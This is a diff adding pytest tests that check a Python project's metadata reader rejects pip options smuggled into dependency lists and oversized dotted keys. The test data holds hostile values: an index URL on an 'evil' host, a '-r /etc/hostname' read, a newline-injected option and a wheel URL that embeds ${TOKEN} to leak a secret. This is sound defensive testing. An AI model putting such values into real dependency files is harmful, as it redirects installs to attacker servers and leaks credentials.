@@ -228,3 +228,26 @@ def test_options_as_the_planner_gives_them() -> None:
     assert Choice.of({}) == Choice()
     assert Choice.of({"extras": None, "groups": None, "requirements": None, "lock": "auto"}) == Choice()
     assert Choice.of({"extras": [], "groups": ["a"], "lock": "off"}) == Choice((), ("a",), None, lock=False)
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("pyproject.toml", '[project]\nname="p"\nversion="1"\ndependencies = ["--index-url=https://evil/simple"]\n'),
+        ("pyproject.toml", '[project]\nname="p"\nversion="1"\ndependencies = ["-r /etc/hostname"]\n'),
+        ("pyproject.toml", '[project]\nname="p"\nversion="1"\ndependencies = ["a\\n--find-links /x"]\n'),
+        ("pyproject.toml", '[project]\nname="p"\nversion="1"\ndependencies = ["a @ https://evil/${TOKEN}/a.whl"]\n'),
+        ("pyproject.toml", '[project.optional-dependencies]\ntest = ["--pre"]\n'),
+        ("setup.cfg", "[options]\ninstall_requires =\n  --index-url=https://evil\n"),
+    ],
+)
+def test_metadata_has_requirements_and_no_options(name: str, text: str, tmp_path: Path) -> None:
+    with pytest.raises(PreparationError, match="is no requirement"):
+        asked(tmp_path, {name: text})
+
+
+def test_a_key_of_too_many_parts_is_refused_before_it_is_read(tmp_path: Path) -> None:
+    with pytest.raises(PreparationError, match="more than 300 dots"):
+        asked(tmp_path, {"pyproject.toml": ".".join("a" * 20000) + " = 1\n"})
+    quoted = '[project]\nname="p"\nversion="1"\ndescription = "' + "." * 5000 + '"\ndependencies = ["a"]\n'
+    assert asked(tmp_path, {"pyproject.toml": quoted}) == ("a",)
